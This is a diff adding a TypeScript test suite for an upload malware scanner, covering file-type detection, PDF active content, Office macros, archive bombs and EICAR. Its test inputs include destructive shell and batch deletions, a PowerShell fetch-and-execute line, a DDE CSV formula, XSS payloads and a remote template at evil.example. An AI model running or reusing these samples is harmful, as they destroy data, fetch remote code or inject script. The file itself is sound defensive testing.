@@ -1,0 +1,378 @@
+import { createHash } from 'node:crypto';
+import { deflateRawSync, gzipSync } from 'node:zlib';
+import { describe, expect, it } from 'vitest';
+import { buildOle, buildWorkbookStream } from '../../../../test/fixtures/files/build-ole.js';
+import { buildPdf } from '../../../../test/fixtures/files/build-pdf.js';
+import { buildOoxml, buildZip } from '../../../../test/fixtures/files/build-zip.js';
+import { samples } from '../../../../test/fixtures/files/samples.js';
+import type { BuiltinLimits } from './builtin-limits.js';
+import { createBuiltinScanner } from './builtin-scanner.js';
+import { bytesSubject } from './bytes-subject.js';
+
+const scan = async (
+  name: string,
+  bytes: Uint8Array,
+  options: Partial<BuiltinLimits> & { denylist?: string[] } = {},
+) => {
+  const result = await createBuiltinScanner(options).scan(bytesSubject(name, bytes));
+  return { ...result, rules: result.findings.map((f) => f.rule) };
+};
+
+describe('built-in engine: allowed files', () => {
+  it.each([
+    ['cv.pdf', buildPdf(), 'application/pdf'],
+    ['photo.png', samples.png, 'image/png'],
+    ['photo.jpg', samples.jpeg, 'image/jpeg'],
+    ['anim.gif', samples.gif, 'image/gif'],
+    ['image.webp', samples.webp, 'image/webp'],
+    ['notes.txt', samples.text, 'text/plain'],
+    ['table.csv', samples.csv, 'text/csv'],
+    ['職務経歴書.txt', samples.shiftJis, 'text/plain'],
+    [
+      'cv.docx',
+      buildOoxml('docx'),
+      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
+    ],
+    ['sheet.xlsx', buildOoxml('xlsx'), 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
+    [
+      'deck.pptx',
+      buildOoxml('pptx'),
+      'application/vnd.openxmlformats-officedocument.presentationml.presentation',
+    ],
+    ['old.doc', buildOle([{ name: 'WordDocument', data: Buffer.alloc(700, 1) }]), 'application/msword'],
+    [
+      'old.xls',
+      buildOle([{ name: 'Workbook', data: buildWorkbookStream(false) }]),
+      'application/vnd.ms-excel',
+    ],
+    [
+      'portfolio.zip',
+      buildZip([
+        { name: 'cv.pdf', data: buildPdf() },
+        { name: '写真/顔.png', data: samples.png },
+      ]),
+      'application/zip',
+    ],
+    ['report.csv.gz', gzipSync(samples.csv), 'application/gzip'],
+  ])('accepts %s as clean and detects its type from the bytes', async (name, bytes, type) => {
+    const r = await scan(name, bytes);
+    expect(r.findings).toEqual([]);
+    expect(r.kind).toBe('clean');
+    expect(r.detectedType).toBe(type);
+  });
+
+  it('accepts a file without an extension by its content', async () => {
+    expect((await scan('README', samples.text)).kind).toBe('clean');
+  });
+});
+
+describe('built-in engine: names versus content', () => {
+  it.each([
+    ['cv.pdf', samples.png, 'name-mismatch'],
+    ['cv.pdf', samples.pe, 'executable'],
+    ['履歴書.pdf', samples.pe, 'name-mismatch'],
+    ['photo.png', buildPdf(), 'name-mismatch'],
+    ['cv.docx', buildZip([{ name: 'a.txt', data: 'hello' }]), 'name-mismatch'],
+    ['run.bat', Buffer.from('dir\r\n'), 'name-mismatch'],
+    ['cv.pdf.exe', buildPdf(), 'name-mismatch'],
+  ])('rejects %s whose content is something else (%s)', async (name, bytes, rule) => {
+    const r = await scan(name, bytes);
+    expect(r.kind).toBe('rejected');
+    expect(r.rules).toContain(rule);
+  });
+});
+
+describe('built-in engine: programs and scripts', () => {
+  it.each([
+    ['setup.exe', samples.pe, 'application/x-msdownload'],
+    ['a.out', samples.elf, 'application/x-elf'],
+    ['app', samples.machoFat, 'application/x-mach-binary'],
+    ['tool', samples.machO64, 'application/x-mach-binary'],
+  ])('rejects the executable %s', async (name, bytes, type) => {
+    const r = await scan(name, bytes);
+    expect(r.kind).toBe('rejected');
+    expect(r.rules).toContain('executable');
+    expect(r.detectedType).toBe(type);
+  });
+
+  it.each([
+    ['install.txt', '#!/bin/sh\nrm -rf ~\n'],
+    ['notes.txt', '@echo off\r\ndel /q C:\\*\r\n'],
+    ['notes.txt', 'powershell -enc SQBFAFgA\n'],
+    ['notes.txt', '$c = New-Object Net.WebClient; IEX ($c.DownloadString("http://x"))\n'],
+    ['notes.txt', 'Set sh = CreateObject("WScript.Shell")\nsh.Run "calc"\n'],
+    ['notes.txt', 'var s = String.fromCharCode(99,97,108,99); eval(s);\n'],
+  ])('rejects a script disguised as %s: %j', async (name, content) => {
+    const r = await scan(name, Buffer.from(content));
+    expect(r.kind).toBe('rejected');
+    expect(r.rules).toContain('script');
+  });
+
+  it('accepts text that starts with the letters MZ', async () => {
+    expect((await scan('memo.txt', Buffer.from('MZ team notes: meeting at ten.\n'))).kind).toBe('clean');
+  });
+
+  it('rejects a CSV cell that starts a program through DDE', async () => {
+    const r = await scan('list.csv', Buffer.from("name,value\nx,=cmd|' /C calc'!A0\n"));
+    expect(r.rules).toContain('csv-formula-injection');
+  });
+});
+
+describe('built-in engine: markup', () => {
+  it.each([
+    ['page.html', '<!DOCTYPE html><html><body><script>alert(1)</script></body></html>', 'html-script'],
+    ['page.html', '<html><body><img src=x onerror="alert(1)"></body></html>', 'html-script'],
+    ['logo.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', 'svg-script'],
+    ['logo.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>', 'svg-script'],
+    [
+      'logo.svg',
+      '<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>',
+      'type-not-allowed',
+    ],
+    ['page.html', '<html><body><p>hello</p></body></html>', 'type-not-allowed'],
+  ])('rejects %s (%s)', async (name, content, rule) => {
+    const r = await scan(name, Buffer.from(content));
+    expect(r.kind).toBe('rejected');
+    expect(r.rules).toContain(rule);
+  });
+});
+
+describe('built-in engine: PDF active content', () => {
+  it.each([
+    ['/OpenAction << /S /JavaScript /JS (app.alert(1)) >>', 'pdf-javascript'],
+    ['/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>', 'pdf-javascript'],
+    ['/OpenAction << /S /Launch /F (cmd.exe) >>', 'pdf-launch'],
+    ['/Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >>', 'pdf-embedded-file'],
+    ['/AA << /O 9 0 R >>', 'pdf-auto-action'],
+    ['/RichMedia 9 0 R', 'pdf-richmedia'],
+  ])('rejects a PDF with %s', async (extra, rule) => {
+    const r = await scan('cv.pdf', buildPdf({ catalogExtra: extra }));
+    expect(r.kind).toBe('rejected');
+    expect(r.rules).toContain(rule);
+  });
+
+  it('rejects JavaScript hidden inside a compressed object stream', async () => {
+    const r = await scan('cv.pdf', buildPdf({ objStm: '<< /S /JavaScript /JS (app.alert(1)) >>' }));
+    expect(r.rules).toContain('pdf-javascript');
+  });
+
+  it('accepts an OpenAction that only goes to a page', async () => {
+    expect((await scan('cv.pdf', buildPdf({ catalogExtra: '/OpenAction [3 0 R /Fit]' }))).kind).toBe('clean');
+  });
+
+  it('does not read names out of binary stream data', async () => {
+    // "/JS " inside image data is not a dictionary key; a reader never acts on it.
+    const pdf = buildPdf({ padTo: 4000 });
+    const at = pdf.indexOf('AAAA');
+    pdf.write('/JS /Launch ', at, 'latin1');
+    expect((await scan('cv.pdf', pdf)).kind).toBe('clean');
+  });
+
+  it('finds a name cut across two stream chunks', async () => {
+    const pdf = buildPdf({ catalogExtra: '/OpenAction << /S /JavaScript /JS (x) >>' });
+    const at = pdf.indexOf('/JavaScript') + 5;
+    const subject = {
+      ...bytesSubject('cv.pdf', pdf),
+      async *stream() {
+        yield pdf.subarray(0, at);
+        yield pdf.subarray(at);
+      },
+    };
+    const r = await createBuiltinScanner().scan(subject);
+    expect(r.findings.map((f) => f.rule)).toContain('pdf-javascript');
+  });
+
+  it('rejects an encrypted PDF as unscannable', async () => {
+    const r = await scan('cv.pdf', buildPdf({ catalogExtra: '/Encrypt 9 0 R' }));
+    expect(r.rules).toContain('pdf-encrypted');
+  });
+});
+
+describe('built-in engine: Office macros', () => {
+  it.each(['docx', 'xlsx', 'pptx'] as const)('rejects a %s with a VBA project', async (kind) => {
+    const r = await scan(`file.${kind}`, buildOoxml(kind, { macros: true }));
+    expect(r.kind).toBe('rejected');
+    expect(r.rules).toContain('office-macros');
+  });
+
+  it('rejects a document with a remote template', async () => {
+    const rels =
+      '<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>';
+    const r = await scan(
+      'cv.docx',
+      buildOoxml('docx', { extra: [{ name: 'word/_rels/settings.xml.rels', data: rels }] }),
+    );
+    expect(r.rules).toContain('office-external-content');
+  });
+
+  it('rejects an executable embedded in a document', async () => {
+    const r = await scan(
+      'cv.docx',
+      buildOoxml('docx', { extra: [{ name: 'word/embeddings/x.bin', data: samples.pe }] }),
+    );
+    expect(r.rules).toContain('executable');
+  });
+
+  it.each([
+    ['Macros', 'storage'],
+    ['_VBA_PROJECT_CUR', 'storage'],
+    ['VBA', 'storage'],
+  ])('rejects a legacy .doc with a %s %s', async (name) => {
+    const ole = buildOle([
+      { name: 'WordDocument', data: Buffer.alloc(700, 1) },
+      { name, storage: true },
+      { name: '_VBA_PROJECT', data: Buffer.alloc(600, 2) },
+    ]);
+    expect((await scan('old.doc', ole)).rules).toContain('office-macros');
+  });
+
+  it('rejects a legacy .xls with an Excel 4.0 macro sheet', async () => {
+    const ole = buildOle([{ name: 'Workbook', data: buildWorkbookStream(true) }]);
+    expect((await scan('old.xls', ole)).rules).toContain('office-macros');
+  });
+
+  it('rejects a .doc that carries an embedded package', async () => {
+    const ole = buildOle([
+      { name: 'WordDocument', data: Buffer.alloc(700, 1) },
+      { name: '\u0001Ole10Native', data: samples.pe },
+    ]);
+    expect((await scan('old.doc', ole)).rules).toContain('office-embedded-package');
+  });
+
+  it('rejects other compound files such as installers', async () => {
+    const ole = buildOle([{ name: 'SummaryInformation', data: Buffer.alloc(600) }]);
+    const r = await scan('setup.msi', ole);
+    expect(r.rules).toContain('type-not-allowed');
+  });
+
+  it('rejects a damaged compound file instead of guessing', async () => {
+    const ole = buildOle([{ name: 'WordDocument', data: Buffer.alloc(700, 1) }]);
+    ole.writeUInt16LE(3, 0x1e);
+    expect((await scan('old.doc', ole)).rules).toContain('office-corrupt');
+  });
+});
+
+describe('built-in engine: archives', () => {
+  it('rejects a zip bomb from its declared ratio without inflating it', async () => {
+    const zip = buildZip([{ name: 'zeros.txt', data: Buffer.alloc(50 * 1024 * 1024) }]);
+    expect(zip.length).toBeLessThan(100 * 1024);
+    const r = await scan('cv.zip', zip);
+    expect(r.rules).toContain('zip-bomb-ratio');
+  });
+
+  it('rejects an archive that expands beyond the total size limit', async () => {
+    const r = await scan('cv.zip', buildZip([{ name: 'a.txt', data: Buffer.alloc(3000, 'a') }]), {
+      maxExpandedBytes: 2000,
+    });
+    expect(r.rules).toContain('zip-bomb-size');
+  });
+
+  it('stops inflating an entry whose central directory lies about its size', async () => {
+    const zip = buildZip([
+      { name: 'small.txt', data: Buffer.alloc(5 * 1024 * 1024, 'a'), declaredSize: 1000 },
+    ]);
+    const r = await scan('cv.zip', zip);
+    expect(r.kind).toBe('rejected');
+    expect(r.rules).toContain('zip-size-mismatch');
+  });
+
+  it('rejects archives nested deeper than the limit', async () => {
+    let inner: Buffer = buildZip([{ name: 'cv.txt', data: 'hello' }]);
+    for (let i = 0; i < 3; i++) inner = buildZip([{ name: `level${i}.zip`, data: inner }]);
+    expect((await scan('deep.zip', inner)).rules).toContain('archive-too-deep');
+    expect((await scan('deep.zip', inner, { maxDepth: 4 })).kind).toBe('clean');
+  });
+
+  it('rejects too many entries', async () => {
+    const zip = buildZip(Array.from({ length: 12 }, (_, i) => ({ name: `f${i}.txt`, data: 'x' })));
+    expect((await scan('many.zip', zip, { maxEntries: 10 })).rules).toContain('zip-too-many-entries');
+  });
+
+  it('rejects encrypted entries as unscannable', async () => {
+    const r = await scan('secret.zip', buildZip([{ name: 'cv.pdf', data: buildPdf(), encrypted: true }]));
+    expect(r.rules).toContain('zip-encrypted');
+  });
+
+  it('finds EICAR inside a zip inside a zip', async () => {
+    const zip = buildZip([
+      { name: 'inner.zip', data: buildZip([{ name: 'eicar.com', data: samples.eicar }]) },
+    ]);
+    const r = await scan('cv.zip', zip);
+    expect(r.kind).toBe('infected');
+    expect(r.findings[0]?.detail).toContain('inner.zip: eicar.com');
+  });
+
+  it('rejects an archive with a program among allowed files', async () => {
+    const r = await scan(
+      'cv.zip',
+      buildZip([
+        { name: 'cv.pdf', data: buildPdf() },
+        { name: 'cv.pdf.exe', data: samples.pe },
+      ]),
+    );
+    expect(r.rules).toContain('executable');
+  });
+
+  it('keeps Japanese entry names, in UTF-8 or Shift_JIS', async () => {
+    const sjisName = Buffer.from([0x97, 0x9a, 0x97, 0xf0, 0x8f, 0x91, 0x2e, 0x65, 0x78, 0x65]); // 履歴書.exe
+    const r = await scan('応募書類.zip', buildZip([{ name: 'x', rawName: sjisName, data: samples.pe }]));
+    expect(r.findings[0]?.detail).toContain('履歴書.exe');
+  });
+
+  it('rejects a gzip bomb while it streams', async () => {
+    const r = await scan('big.txt.gz', gzipSync(Buffer.alloc(20 * 1024 * 1024)), {
+      maxExpandedBytes: 10 * 1024 * 1024,
+      maxRatio: 1e9,
+    });
+    expect(r.rules).toContain('gzip-bomb-size');
+    const ratio = await scan('big.txt.gz', gzipSync(Buffer.alloc(20 * 1024 * 1024)));
+    expect(ratio.rules).toContain('gzip-bomb-ratio');
+  });
+
+  it('rejects what a gzip holds when it is not allowed', async () => {
+    expect((await scan('tool.gz', gzipSync(samples.elf))).rules).toContain('executable');
+  });
+
+  it('rejects a damaged entry whose checksum does not match', async () => {
+    const zip = buildZip([{ name: 'a.txt', data: 'hello world', method: 0 }]);
+    zip.write('jello', zip.indexOf('hello'), 'latin1');
+    expect((await scan('a.zip', zip)).rules).toContain('zip-corrupt');
+  });
+
+  it('rejects other archive formats it cannot inspect', async () => {
+    const rar = Buffer.concat([Buffer.from('Rar!\x1a\x07\x00', 'latin1'), Buffer.alloc(32)]);
+    expect((await scan('cv.rar', rar)).rules).toContain('type-not-allowed');
+  });
+
+  it('rejects a deflated entry that is not valid deflate data', async () => {
+    const zip = buildZip([{ name: 'a.txt', data: 'hello world hello world' }]);
+    const raw = deflateRawSync(Buffer.from('hello world hello world'));
+    zip.fill(0xff, 30 + 5, 30 + 5 + raw.length);
+    expect((await scan('a.zip', zip)).rules).toContain('zip-corrupt');
+  });
+});
+
+describe('built-in engine: malware markers', () => {
+  it('reports the EICAR test file as infected', async () => {
+    const r = await scan('eicar.txt', samples.eicar);
+    expect(r.kind).toBe('infected');
+    expect(r.rules).toEqual(['eicar']);
+  });
+
+  it('reports EICAR followed by whitespace, as EICAR allows', async () => {
+    expect((await scan('eicar.com', Buffer.concat([samples.eicar, Buffer.from('  \r\n')]))).kind).toBe(
+      'infected',
+    );
+  });
+
+  it('reports a file whose sha256 is on the denylist as infected', async () => {
+    const sha = createHash('sha256').update(samples.text).digest('hex').toUpperCase();
+    const r = await scan('notes.txt', samples.text, { denylist: [sha] });
+    expect(r.kind).toBe('infected');
+    expect(r.rules).toEqual(['sha256-denylist']);
+  });
+
+  it('rejects an empty file as a type it cannot recognise', async () => {
+    expect((await scan('empty.pdf', new Uint8Array())).kind).toBe('rejected');
+  });
+});
